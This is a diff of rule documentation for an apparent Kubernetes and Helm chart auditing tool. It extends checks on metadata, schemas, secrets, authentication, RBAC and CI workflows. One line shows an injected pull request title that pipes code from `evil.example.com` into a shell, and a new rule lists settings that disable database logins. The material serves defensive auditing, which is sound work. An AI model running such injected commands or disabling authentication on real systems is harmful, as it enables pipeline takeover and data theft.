@@ -47,7 +47,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'incomplete-chart-metadata': {
     whatItChecks:
-      'Chart.yaml: a description, the version of the application (`appVersion`), the range of\nKubernetes versions (`kubeVersion`), a home page or source repository, and maintainers.\nLibrary charts need neither `appVersion` nor `kubeVersion`.\n\nIt also checks that `version` is a semantic version, and that `kubeVersion` does not shut\nout managed clusters: their versions carry a suffix such as `-gke.100` or `-eks-1a2b3c`,\nwhich Helm 3 takes for a pre-release that a plain `>=1.30.0` does not admit.',
+      'Chart.yaml: a description, the version of the application (`appVersion`), the range of\nKubernetes versions (`kubeVersion`), a home page or source repository, and maintainers.\nLibrary charts need neither `appVersion` nor `kubeVersion`.\n\nIt also checks that `version` is a semantic version, and that `kubeVersion` does not shut\nout managed clusters: their versions carry a suffix such as `-gke.100` or `-eks-1a2b3c`,\nwhich Helm 3 takes for a pre-release that a plain `>=1.30.0` does not admit.\n\nAnd it checks what else Helm or `helm lint` refuses: a type that is neither `application` nor\n`library`, dependencies that share a name or alias, empty entries, maintainers without a name,\naddresses that are none, and keys that stand twice.',
     whyItMatters:
       'These fields are what someone sees before they decide whether to install a chart, and what\ntools read to match a running release with its source. During an incident `appVersion` tells\nwhich build runs and `sources` where its code is. Without `kubeVersion` an upgrade of the\ncluster is a surprise instead of a refused install. And a range without `-0` makes every\ninstall and upgrade fail on the very clusters that production runs on.',
     howToFix:
@@ -392,7 +392,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'invalid-manifest': {
     whatItChecks:
-      'Every object of a built-in kind is held against the schema of the Kubernetes API:\n\n- fields that its kind does not have, such as a probe in the pod or `tolerations` in the\n  Deployment, with the name or the place that was probably meant;\n- values of another type, such as a number where only text is taken, or a list for a map;\n- words that are not among those that a field takes, quantities that are none, and data that is\n  not in base64;\n- required fields that are missing or empty;\n- kinds that Kubernetes does not have in that version;\n- keys that stand twice in one map, of medium severity, since Helm itself takes the last;\n- Jobs and CronJobs whose pods have the restart policy `Always`, which is also the default.\n\nOf custom resources only the metadata is judged, and the types of the pods that they embed; the\nreport says how many were skipped. A null is as good as nothing, as it is for Kubernetes. API\nversions that Kubernetes gave up are the matter of `removed-api-version`, previews of other\nreleases are not judged, and selectors that miss their own pods are the matter of\n`selector-mismatch`, and names and labels of `invalid-metadata`. At most ten places of one object are listed.',
+      'Every object of a built-in kind is held against the schema of the Kubernetes API:\n\n- fields that its kind does not have, such as a probe in the pod or `tolerations` in the\n  Deployment, with the name or the place that was probably meant;\n- values of another type, such as a number where only text is taken, or a list for a map;\n- words that are not among those that a field takes, quantities that are none, and data that is\n  not in base64;\n- required fields that are missing or empty;\n- kinds that Kubernetes does not have in that version;\n- names that lead nowhere or stand twice: mounts of a volume that the pod lacks, two containers or\n  volumes of one name, several ports of a Service without names;\n- fields that exclude or need each other: a probe without a handler or with two, `rollingUpdate`\n  beside the strategy Recreate, a variable with a value and a source, `nodePort` of a Service of\n  type ClusterIP, a claim without a size, an autoscaler whose maximum is below its minimum;\n- keys that stand twice in one map, of medium severity, since Helm itself takes the last;\n- Jobs and CronJobs whose pods have the restart policy `Always`, which is also the default.\n\nOf custom resources only the metadata is judged, and the types of the pods that they embed; the\nreport says how many were skipped. A null is as good as nothing, as it is for Kubernetes. API\nversions that Kubernetes gave up are the matter of `removed-api-version`, previews of other\nreleases are not judged, and selectors that miss their own pods are the matter of\n`selector-mismatch`, and names and labels of `invalid-metadata`. At most ten places of one object are listed.',
     whyItMatters:
       "YAML reads `port: 9090` and `enabled: yes` as number and boolean, and Helm hands them on. The\nAPI server then refuses the whole release, with a message that names neither template nor\nline. A field that Kubernetes does not know is worse: Helm 4 applies on the server's side and\nrefuses it, but Helm 3 and `kubectl apply` without strict validation drop it, and the probe or the\nsecurity setting that the review saw is not there in production. A key that stands twice is\ntaken by Helm and refused by Kustomize, so a chart that works on a laptop fails under Flux.",
     howToFix:
@@ -424,7 +424,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'invalid-port': {
     whatItChecks:
-      'The ports of Services and of all containers: numbers from 1 to 65535; names of container ports, and\ntarget ports that are names, of at most 15 lower-case letters, digits and single dashes with a\nletter among them; no name twice in a container, and no number twice in a Service for the same\nprotocol.\n\nWhether the port that a Service names exists in its pods is for `service-port-mismatch`.',
+      'The ports of Services and of all containers: numbers from 1 to 65535; names of container ports, and\ntarget ports that are names, of at most 15 lower-case letters, digits and single dashes with a\nletter among them; no name twice in a container, and no number twice in a Service or a container\nfor the same protocol.\n\nWhether the port that a Service names exists in its pods is for `service-port-mismatch`.',
     whyItMatters:
       'The schemas of Kubernetes allow any text and any number here, so editors and schema validators say\nnothing. The API server applies the stricter rules when the release is installed, and refuses the\nService or the Deployment: what else the release changed is changed already. The name mostly gets\ntoo long when a chart joins it from two values, for the one environment that has the longer one.',
     howToFix:
@@ -439,7 +439,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'invalid-schedule': {
     whatItChecks:
-      "`schedule` of CronJobs, of Argo's CronWorkflows and of Velero's Schedules, read as their controllers read\nit: five fields or a macro such as `@daily`, numbers within their bounds, days of the week from 0 to 6 or\n`SUN` to `SAT`, and none of `L`, `W` and `#`, which other schedulers know. A date that no year has, such as\nthe 30th of February, is a finding too. So is a time zone within a CronJob's schedule, and\n`timeZone: Local`.",
+      "`schedule` of CronJobs, of Argo's CronWorkflows and of Velero's Schedules, read as their controllers read\nit: five fields or a macro such as `@daily`, numbers within their bounds, days of the week from 0 to 6 or\n`SUN` to `SAT`, and none of `L`, `W` and `#`, which other schedulers know. A date that no year has, such as\nthe 30th of February, is a finding too. So is a time zone within a CronJob's schedule, and a\n`timeZone` that names none, such as `Local`.",
     whyItMatters:
       'What runs at night is missed last. A backup with six fields, as Quartz and Spring write them, is refused\nwhen the chart is installed, and with a plain `kubectl apply` of many files the error is one line among\nhundreds. A custom resource is not refused at all: it is stored, never runs, and nobody is told until\nsomebody needs the backup.',
     howToFix:
@@ -659,7 +659,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'removed-api-version': {
     whatItChecks:
-      "The `apiVersion` of every rendered object against the built-in APIs that Kubernetes has\nremoved, for two targets: the Kubernetes version that the chart was rendered for, and the\nnewest one that `kubeVersion` in Chart.yaml admits. Versions that cert-manager and Istio have\ngiven up count too, whatever the cluster's version; other custom resources are left out.",
+      "The `apiVersion` of every rendered object against the built-in APIs that Kubernetes has\nremoved, for two targets: the Kubernetes version that the chart was rendered for, and the\nnewest one that `kubeVersion` in Chart.yaml admits. Versions that cert-manager, Istio, Traefik\nand the snapshot controller have given up count too, whatever the cluster's version; other\ncustom resources are left out.",
     whyItMatters:
       'A cluster that no longer serves an API version refuses the whole release: nothing of the\nchart can be installed, upgraded or restored there. It mostly comes to light in the worst\nmoment, when a cluster was upgraded, or rebuilt after a disaster, and the service has to come\nback. Helm also stores the old manifest with the release, so even a rollback fails.',
     howToFix:
@@ -707,7 +707,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'service-port-mismatch': {
     whatItChecks:
-      'Every port of every Service whose `targetPort` is a name, against the ports that the\ncontainers and sidecars of the pods it selects declare under that name. Where a Service\nselects several workloads, one of them with the port is enough.\n\nA number is fine even when no container lists it, because the list of container ports is\ninformation only. For headless Services a finding weighs little, since their clients connect\nto the pods themselves. Jobs and hooks are left out, even if they carry the labels by accident.',
+      'Every port of every Service whose `targetPort` is a name, against the ports that the\ncontainers and sidecars of the pods it selects declare under that name and for the same\nprotocol, which is TCP where nothing else is said. Where a Service\nselects several workloads, one of them with the port is enough.\n\nA number is fine even when no container lists it, because the list of container ports is\ninformation only. For headless Services a finding weighs little, since their clients connect\nto the pods themselves. Jobs and hooks are left out, even if they carry the labels by accident.',
     whyItMatters:
       'A target port that does not resolve makes the Service drop that port without a word: the\nrelease succeeds, the pods are ready, and every connection is refused. It happens when a\ncontainer port is renamed, for instance from `http` to `web`, and the Service is not.',
     howToFix:
@@ -766,7 +766,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'blocking-init-wait': {
     whatItChecks:
-      "The scripts of init containers of long-running pods: a `while` or `until` loop that asks a\ndependency over the network, and in which nothing limits the time or the number of attempts.\nPrograms made for waiting, whose limits can't be seen, pass.",
+      'The scripts of init containers of long-running pods: a `while` or `until` loop that asks a\ndependency over the network, and in which nothing limits the time or the number of attempts,\nfails. So does a program made for waiting, such as `wait4x`, whose time limit is switched off by a\n`--timeout 0`; without it such programs pass.',
     whyItMatters:
       'While the dependency is away, no new pod of the service starts: not after a crash, not for more\nload, not to replace the pods of a lost node. The outage of one component so spreads to all that\nwait for it, and when it comes back they all start at the same moment. A pod that starts without\nits dependency could at least answer what does not need it, and say that it is degraded.',
     howToFix:
@@ -1216,7 +1216,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-backup': {
     whatItChecks:
-      'Whether something backs up what long-running workloads keep in persistent volumes: a job or\nsidecar for backups, a snapshot or backup schedule, the annotations of Velero, K8up and their\nlike, or a page in the repository about backups. Volumes for caches, temporary files, logs and\nplug-ins are left out. Where the repository is not known, the outcome is unknown.\n\nFor stores of metrics, logs and traces a finding is of medium severity: what they lose is worth less each day.',
+      'Whether something backs up what long-running workloads keep in persistent volumes: a job or\nsidecar for backups, a snapshot or backup schedule, the annotations of Velero, K8up and their\nlike, or a page in the repository that says how often it is done. Volumes for caches, temporary\nfiles, logs and plug-ins are left out. Where the repository is not known, or its pages only tell\nhow a backup would be made, the outcome is unknown.\n\nFor stores of metrics, logs and traces a finding is of medium severity: what they lose is worth less each day.',
     whyItMatters:
       'Replicas protect against lost machines and not against lost data: a deletion is replicated within\nmilliseconds. A wrong migration, a removed namespace, ransomware or a storage system that fails\nleaves what was backed up, or nothing. It is found out on the day of the restore.',
     howToFix:
@@ -1469,7 +1469,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'default-credential': {
     whatItChecks:
-      'The values that the audited scenario ends up with: every key called as secrets are\n(`password`, `adminPassword`, `auth.rootPassword`) whose value is one that everybody knows, such\nas `admin`, `changeme` or `postgres`, or that well-known software ships with.\n\nParts that are switched off by `enabled: false`, and passwords that an `existingSecret` stands in\nfor, are left out. An empty password passes: it is generated or asked for.',
+      'The values that the audited scenario ends up with: every key called as secrets are\n(`password`, `adminPassword`, `auth.rootPassword`) whose value is one that everybody knows, such\nas `admin`, `changeme` or `postgres`, or that well-known software ships with, or that is the name\nof the user beside it. Whole logins, as in `localUsers: "ada:ada"`, are read too.\n\nParts that are switched off by `enabled: false`, and passwords that an `existingSecret` stands in\nfor, are left out. An empty password passes: it is generated or asked for.',
     whyItMatters:
       'A default password is a password for nobody, since the first list that an intruder tries has it.\nInside a cluster, where any pod can reach any other unless a network policy says otherwise, it\nturns one compromised neighbour into access to this service\'s data.\n\nDefaults that are "only for development" reach production because nothing fails without them: the\nservice starts, the probes are green, and nobody looks at the password again.',
     howToFix:
@@ -1499,6 +1499,22 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://kubernetes.io/docs/concepts/security/service-accounts/',
     ],
   },
+  'disabled-authentication': {
+    whatItChecks:
+      "Environment variables and flags of long-running containers by which well-known servers go without\na login: `ALLOW_EMPTY_PASSWORD=yes`, `ALLOW_ANONYMOUS_LOGIN=yes` and `ALLOW_NONE_AUTHENTICATION=yes`\nof Bitnami's images, an empty root password of MySQL or MariaDB, `POSTGRES_HOST_AUTH_METHOD=trust`,\n`NEO4J_AUTH=none`, the security of Elasticsearch or OpenSearch switched off, `mongod --noauth`,\n`--skip-grant-tables`, CockroachDB started with `--insecure`, Argo Workflows with\n`--auth-mode=server`, and their like.\n\nWhere a password is given all the same, allowing an empty one changes nothing and passes. Settings\nin configuration files are not read.",
+    whyItMatters:
+      'Inside a cluster every pod reaches every other unless a network policy says otherwise. A store\nwithout a login is then open to the least careful workload of all: whoever breaks into any pod\nreads, changes or deletes all of its data with the ordinary client, and leaves no name in a log.\nStores on the public internet that were opened this way are found by scanners within hours, wiped,\nand held for ransom; one Service of type LoadBalancer by mistake is enough.',
+    howToFix:
+      "Create a Secret with a password, have the server read it, and only then take the setting away: a\nstore that was begun without a password mostly keeps running without one until an administrator\nsets it, so set it there too. Give the password to the clients first, in a release of their own.\nMost charts do all of that with one value, such as `auth.enabled: true`.\n\nUntil then let a network policy admit the service's own clients only.",
+    howToVerify:
+      'From another pod connect without a name and password, such as with\n`kubectl run -it --rm probe --image=mariadb:11 -- mariadb -h ledger-db -u root`: it is refused.\nThe service itself still answers, for its clients use the new login.',
+    whenToWaive:
+      'For a cache that holds nothing worth reading or changing, or a server behind a proxy in the same\npod that asks for the login, where a network policy admits nobody else.',
+    references: [
+      'https://owasp.org/Top10/A07_2021-Identification_and_Authentication_Failures/',
+      'https://kubernetes.io/docs/concepts/services-networking/network-policies/',
+    ],
+  },
   'egress-without-dns': {
     whatItChecks:
       "Workloads whose outgoing connections are restricted by NetworkPolicies that allow some of them to\nother pods: at least one rule must allow the cluster's DNS, that is port 53 (5353 on OpenShift)\ntowards another namespace, an address range or anywhere. All policies that select the pods count\ntogether, as they do in the cluster.\n\nPods that may connect to nothing, or to addresses only, are left out. Where policies of the network\nplugin are part of the release as well, the outcome is unknown.",
@@ -1517,7 +1533,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'hard-coded-secret': {
     whatItChecks:
-      'The text of the chart itself: values files, templates and whatever they include. It finds private\nkeys and tokens of well-known formats (AWS, GitHub, GitLab, Slack, Google, Stripe and others),\nand keys called as secrets are whose value looks drawn at random.\n\nComments, prose, examples, tests and `ci/` values are left out. Placeholders such as `changeme` or\n`<token>`, and values encrypted by SOPS, are no secrets.',
+      'The text of the chart itself: values files, templates and whatever they include. It finds private\nkeys, in base64 as well, and tokens of well-known formats (AWS, GitHub, GitLab, Slack, Google,\nStripe and others), and keys called as secrets are whose value looks drawn at random.\n\nComments, prose, examples, tests and `ci/` values are left out. Placeholders such as `changeme` or\n`<token>`, and values encrypted by SOPS, are no secrets.',
     whyItMatters:
       "A chart is copied to every developer's machine, into CI caches, chart registries and mirrors, and\nits history keeps what a later commit removes. A secret in it is not a secret any more, and nobody\ncan tell who has it.\n\nWhen it is abused, it must be revoked at once, and since the service reads it from a release, that\nis an outage: the old release can't be rolled back to, and a new one has to go through everything\nthat a release goes through while the service is down.",
     howToFix:
@@ -1549,9 +1565,9 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'host-path-mount': {
     whatItChecks:
-      "Every `hostPath` volume of a pod template. A finding is critical for the node's root folder and\nfor the sockets of the container runtime or the folders that hold them. It is of medium\nseverity for a DaemonSet that only reads the folder, as log and metric collectors do, or that\nwrites to one which is not the node's own. A socket that is mounted read-only takes commands\nall the same, so there it makes no difference.",
+      "Every `hostPath` volume of a pod template, and persistent volumes that are a `hostPath`, which pods\nreach through a claim. A finding is critical for the node's root folder and\nfor the sockets of the container runtime or the folders that hold them. It is of medium\nseverity for a DaemonSet that only reads the folder, as log and metric collectors do, or that\nwrites to one which is not the node's own. A socket that is mounted read-only takes commands\nall the same, so there it makes no difference.",
     whyItMatters:
-      "A `hostPath` volume is a hole in the wall between pod and node. Through the runtime's socket or\nthe root folder, whoever gets into the pod starts any container he likes and owns the node. Any\nother writable folder lets one pod fill the node's disk, at which point Kubernetes evicts its\nneighbours.\n\nIt also ties data to one machine. When the node is drained, the pod starts elsewhere with an\nempty folder, and what it stored is gone for the service though it still lies on a disk.",
+      "A `hostPath` volume is a hole in the wall between pod and node. Through the runtime's socket or\nthe root folder, whoever gets into the pod starts any container he likes and owns the node. Any\nother writable folder lets one pod fill the node's disk, at which point Kubernetes evicts its\nneighbours.\n\nIt also ties data to one machine. When the node is drained, the pod starts elsewhere with an\nempty folder, and what it stored is gone for the service though it still lies on a disk. A\npersistent volume of that type does the same behind a claim, where the pod security standards\nno longer see it; Kubernetes has it for tests on a single node.",
     howToFix:
       'For data that must survive use a persistent volume claim; for configuration a ConfigMap; for\nscratch space an `emptyDir` with a `sizeLimit`. Build images with a tool that needs no runtime\nsocket, such as Buildah or BuildKit in rootless mode. What must stay should name the narrowest\nfolder and be mounted with `readOnly: true`.',
     howToVerify:
@@ -1708,7 +1724,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'mutable-image-tag': {
     whatItChecks:
-      'The image reference of every container. It fails without a tag (which means `latest`), with the\ntag of a channel or a branch such as `latest`, `stable` or `main`, and, less severely, with a\nmajor version alone such as `16` or `16-alpine`. A digest pins the image whatever its tag says,\nand the port of a registry is not taken for a tag.\n\nTags that merely look unusual, such as commit hashes, pass: nothing is guessed. In pods of\n`helm test` a finding is of low severity.',
+      'The image reference of every container. It fails without a tag (which means `latest`), with the\ntag of a channel or a branch such as `latest`, `lts` or `main`, with that of a base image alone\nsuch as `alpine`, and, less severely, with a major version alone such as `16` or `16-alpine`. A\ndigest pins the image whatever its tag says, and the port of a registry is not taken for a tag.\n\nTags that merely look unusual, such as commit hashes, pass: nothing is guessed. In pods of\n`helm test` a finding is of low severity.',
     whyItMatters:
       'A tag is a pointer that its publisher may move. With a moving tag, a pod that is rescheduled at\nthree in the morning starts a version that nobody tested, next to replicas that still run the\nold one. Rolling back the release changes nothing, because the old release names the same tag.\nAnd nobody can say afterwards which code was running during the incident.',
     howToFix:
@@ -1800,7 +1816,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'rbac-escalation': {
     whatItChecks:
-      'Rights in Roles and ClusterRoles that lead to further ones: `escalate` and `bind` on roles,\n`impersonate`, tokens of service accounts, `exec` and `attach` into pods, the proxy of nodes,\nchanging admission webhooks, and approving certificates.\n\nRules that are limited by `resourceNames` pass, each judged by itself. Rules for all resources are\nnamed once and low, because `rbac-wildcard` weighs them. Roles that the cluster brings itself\n(`admin`, `edit`, `system:…` in plain manifests) and those that exist only while `helm test` runs are left out.',
+      'Rights in Roles and ClusterRoles that lead to further ones: `escalate` and `bind` on roles,\n`impersonate`, tokens of service accounts, `exec` and `attach` into pods, containers started within\npods, ports of pods reached through the API server (`portforward` and `proxy`), the proxy of nodes,\nmaking persistent volumes, changing namespaces and admission webhooks, and approving certificates.\n\nPorts, volumes and namespaces are of medium severity, because the way on from there is longer.\nRules that are limited by `resourceNames` pass, each judged by itself. Rules for all resources are\nnamed once and low, because `rbac-wildcard` weighs them. Roles that the cluster brings itself\n(`admin`, `edit`, `system:…` in plain manifests) and those that exist only while `helm test` runs are left out.',
     whyItMatters:
       'Such a right looks small in a list and is not: each is a step from which all other rights can be\ntaken. With `create` on `pods/exec` the holder has the service account and the secrets of every pod\nhe can reach. Whoever reviews the role sees one line; whoever takes over the pod sees a ladder.',
     howToFix:
@@ -1911,7 +1927,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'secret-in-env': {
     whatItChecks:
-      'Environment variables of all containers that are called as secrets are (`DB_PASSWORD`,\n`API_KEY`, `CLIENT_SECRET`) and have their value written out, URLs with a password in them, and private keys and tokens of\nwell-known formats whatever the variable is called. A blank to be filled in, such as `xxxxx` or\n`<password>`, is reported with low severity.\n\nVariables that refer to a Secret pass. Paths, switches, durations, references such\nas `$(PASSWORD)` or `vault:…`, names of Secrets, and names such as `PASSWORD_FILE` or `TOKEN_TTL`\nare no secrets.',
+      'Environment variables of all containers that are called as secrets are (`DB_PASSWORD`,\n`API_KEY`, `CLIENT_SECRET`, `SMTP_PASS`, `TOKEN_2`) and have their value written out, URLs with a\npassword in them, and private keys, in base64 as well, and tokens of well-known formats whatever\nthe variable is called. `AUTHORIZATION` and its like count where the value looks drawn at random. A\nblank to be filled in, such as `xxxxx` or `<password>`, is reported with low severity.\n\nArguments are read the same way: `--password=…`, or `--token` and the word after it.\n\nVariables that refer to a Secret pass. Paths, switches, durations, versions, encrypted values\nsuch as `ENC(…)`, references such as `$(PASSWORD)` or `vault:…`, names of Secrets, and names such as\n`PASSWORD_FILE` or `TOKEN_TTL` are no secrets.',
     whyItMatters:
       "A value in the pod template is stored in the Deployment, in every ReplicaSet kept for rollback,\nand in Helm's release records; it shows in `kubectl describe`, in dashboards, and in whatever\ncollects manifests. Everyone with read access to workloads has it, which is far more people than\nmay read Secrets.\n\nIt also hurts when the password must change in a hurry: rotating it means a release of the chart,\nand rolling that release back brings the revoked password back, in the middle of an incident.",
     howToFix:
@@ -2032,7 +2048,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'unmasked-proc': {
     whatItChecks:
-      '`securityContext.procMount` of every container, init containers, sidecars and ephemeral containers\nincluded: where it is set, it must\nbe `Default`.',
+      '`securityContext.procMount` of every container, init containers, sidecars and ephemeral containers\nincluded: where it is set, it must be `Default`. For pods with a user namespace of their own\n(`hostUsers: false`) a finding is of low severity; the baseline standard permits them, the restricted\none does not.',
     whyItMatters:
       'Container runtimes hide parts of `/proc` and make others read-only, because they belong to the\nkernel of the node rather than to the container: settings that crash the machine, memory, and what\nother processes do. Unmasked, an intruder in the container reads them, changes them, and takes the\nnode down or over with all pods on it.',
     howToFix:
@@ -2631,7 +2647,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-memory-limit': {
     whatItChecks:
-      'Whether every container, init containers and sidecars included, has a memory limit. Limits of the\nwhole pod count, and so do the defaults of a LimitRange of the same release. Pods of `helm test`\nare left out.\n\nFor init containers and hooks, which are there for a moment, a finding is of medium severity.',
+      'Whether every container, init containers and sidecars included, has a memory limit. Limits of the\nwhole pod count, and so do the defaults of a LimitRange of the same release. Pods of `helm test`\nare left out.\n\nLess than 1 MiB is a finding as well: `512` is 512 bytes and `100m` a tenth of one, and no process\nstarts with that.\n\nFor init containers and hooks, which are there for a moment, a finding is of medium severity.',
     whyItMatters:
       "Memory cannot be throttled; it can only be taken away by killing somebody. With a limit, a leak\nkills the container that leaks, and it starts again. Without one the leak grows until the whole\nnode is short, and then the kernel or the kubelet picks the victims: other services, sometimes the\nnode's own agents. One bug in one service becomes an outage of a dozen.",
     howToFix:
@@ -2646,7 +2662,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-memory-request': {
     whatItChecks:
-      'Whether every container, init containers and sidecars included, requests memory. A limit counts as\na request, because the API copies it. Requests and limits of the whole pod count, and so do the\ndefaults of a LimitRange of the same release. Pods of `helm test` are left out.\n\nFor init containers and hooks, which are there for a moment, a finding is of medium severity.',
+      'Whether every container, init containers and sidecars included, requests memory. A limit counts as\na request, because the API copies it. Requests and limits of the whole pod count, and so do the\ndefaults of a LimitRange of the same release. Pods of `helm test` are left out.\n\nLess than 1 MiB is a finding as well: `512` is 512 bytes and `100m` a tenth of one, and no process\nstarts with that.\n\nFor init containers and hooks, which are there for a moment, a finding is of medium severity.',
     whyItMatters:
       'The scheduler packs nodes by what pods request. A container that requests nothing fits everywhere,\nso the scheduler puts it on nodes that are full already. When the node then runs out of memory,\npods that use more than they requested are evicted first: this one, always. It shows under load,\nwhen every other pod on the node grows as well, and it takes neighbours with it.',
     howToFix:
@@ -3291,7 +3307,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'ci-script-injection': {
     whatItChecks:
-      'Expressions (`${{ … }}`) in the `run` of workflow steps and in scripts that are passed to actions\n(`script`, `run`, `cmd`, `command`) that stand for what a stranger may write, also by way of `env`: titles and texts of issues, pull requests, comments and reviews, commit\nmessages and their authors, and names of branches. Comparisons and `contains` give truth values and are left\nout.',
+      'Expressions (`${{ … }}`) in the `run` of workflow steps and in scripts that are passed to actions\n(`script`, `run`, `cmd`, `command`) that stand for what a stranger may write, also by way of `env`: titles and texts of issues, pull requests, comments and reviews, commit\nmessages and their authors, and names of branches. Comparisons and `contains` give truth values and are left\nout.\n\n`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` for a workflow, a job or a step is a finding too: the runner then\nobeys `::set-env` and `::add-path` in whatever a step prints. So is a step that appends a variable\nwith such text to `GITHUB_ENV` or `GITHUB_PATH`, from which later steps take their variables and path.',
     whyItMatters:
       'The runner pastes the value into the script before the shell sees it. A pull request with the title\n`a"; curl evil.example.com/x | sh; "` then runs that command with the job\'s token and secrets, and no\nmaintainer needs to approve or merge anything. It is the most common hole in public pipelines because the\nline looks harmless and works in every test.',
     howToFix:
@@ -3307,13 +3323,13 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'deprecated-dependency': {
     whatItChecks:
-      'Whether a dependency says `deprecated: true` in its own Chart.yaml. Dependencies are read\nwhere they lie: under `charts/`, unpacked or as an archive, or elsewhere in the repository. A\ndependency that is not at hand makes the outcome unknown, unless another one fails.',
+      'Whether the chart or a dependency of it says `deprecated: true` in its Chart.yaml. Dependencies are read\nwhere they lie: under `charts/`, unpacked or as an archive, or elsewhere in the repository. A\ndependency that is not at hand makes the outcome unknown, unless another one fails.',
     whyItMatters:
       'A maintainer who deprecates a chart says that they will not fix it any more. It goes on\nworking until a Kubernetes upgrade removes an API that it uses or a vulnerability in its\nimage becomes known. Then the upgrade of the whole cluster waits for your chart, or your\nservice stays open to the hole.',
     howToFix:
       'Read what the deprecated chart says with `helm show readme`: mostly it names a successor or\nthe repository that it moved to. Compare the values of both, render both with your values and\nread the difference, and mind persistent volumes: names that differ mean empty data.',
     howToVerify:
-      '`helm show chart charts/<name>*` prints no `deprecated: true` for any dependency after\n`helm dependency update`.',
+      '`helm show chart .` prints no `deprecated: true`, nor does `helm show chart charts/<name>*` for\nany dependency after `helm dependency update`.',
     whenToWaive:
       'While a planned move is under way, with the end of the plan as the end of the waiver.',
     references: ['https://helm.sh/docs/topics/charts/#deprecating-charts'],
@@ -3508,11 +3524,11 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'unpinned-ci-action': {
     whatItChecks:
-      "What the workflows of GitHub, Gitea and Forgejo run with `uses:`: actions, reusable workflows\nand images; also images without a version, or with one\nsuch as `latest`, in which jobs or their services run. An action is pinned by a full commit SHA, an image by its digest. Actions of this\nrepository and of the account that the catalog entity's `github.com/project-slug` names are\nleft out. Where only GitHub's own actions go by a tag, the finding is of low severity: their account runs the\npipeline anyway.",
+      "What the workflows of GitHub, Gitea and Forgejo run with `uses:`: actions, reusable workflows\nand images; also images without a version, or with one\nsuch as `latest`, in which jobs or their services run. An action is pinned by a full commit SHA, an image by its digest. Actions of this\nrepository and of the account that the catalog entity's `github.com/project-slug` names are\nleft out. Scripts that a step fetches and pipes into a shell in one go count too, unless their\naddress names a commit. Where only GitHub's own actions go by a tag, the finding is of low severity: their account runs the\npipeline anyway.",
     whyItMatters:
       'A tag is a label that its owner can move. When the account behind a popular action is taken\nover, the attacker moves every version tag to code that prints the secrets of each pipeline\nthat runs it. It happened in March 2025 to `tj-actions/changed-files`, which more than twenty\nthousand repositories used. The pipeline that releases your chart holds the keys to your registry\nand cluster. A commit SHA cannot be moved.',
     howToFix:
-      'Replace each tag by the commit that it points to now and keep the version as a comment:\n`git ls-remote https://github.com/azure/setup-helm v4.3.1` prints the commit. Renovate\n(`helpers:pinGitHubActionDigests`) and Dependabot keep commit and comment up to date from\nthen on.',
+      'Replace each tag by the commit that it points to now and keep the version as a comment:\n`git ls-remote https://github.com/azure/setup-helm v4.3.1` prints the commit. Renovate\n(`helpers:pinGitHubActionDigests`) and Dependabot keep commit and comment up to date from\nthen on. Download a script by the commit of its repository rather than by a branch, or compare\nits checksum before it runs.',
     howToVerify:
       "`grep -rnE 'uses: +[^./][^@]*@' .github | grep -vE '@[0-9a-f]{40}'` prints nothing but\nactions of accounts that you trust like your own.",
     whenToWaive:
@@ -3558,7 +3574,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'untrusted-ci-trigger': {
     whatItChecks:
-      "Workflows of GitHub, Gitea and Forgejo that start on `pull_request_target` or `workflow_run`. One that\nfetches the code of the pull request and runs something of it, without waiting for a maintainer's label, is a finding of high\nseverity, `workflow_run` alone one of low severity.\nWorkflows that only set labels with `actions/labeler` are left out.",
+      "Workflows of GitHub, Gitea and Forgejo that start on `pull_request_target`, `workflow_run` or\n`issue_comment`. One that fetches the code of the pull request and runs something of it, without\nwaiting for a maintainer's label or asking who wrote the comment, is a finding of high severity.\n`workflow_run` alone is one of low severity, and `issue_comment` alone none.\nWorkflows that only set labels with `actions/labeler` are left out.",
     whyItMatters:
       "A workflow on `pull_request` of a fork gets no secrets and a token that only reads. One on\n`pull_request_target` or `workflow_run` gets both in full, whoever opened the pull request. As soon as it\nbuilds, tests or only installs what the change brings, a stranger's `Makefile` runs with the keys of your\nregistry. In 2025 a good number of widely used actions and packages were taken over that way, and with them\neverybody who installed them.",
     howToFix:
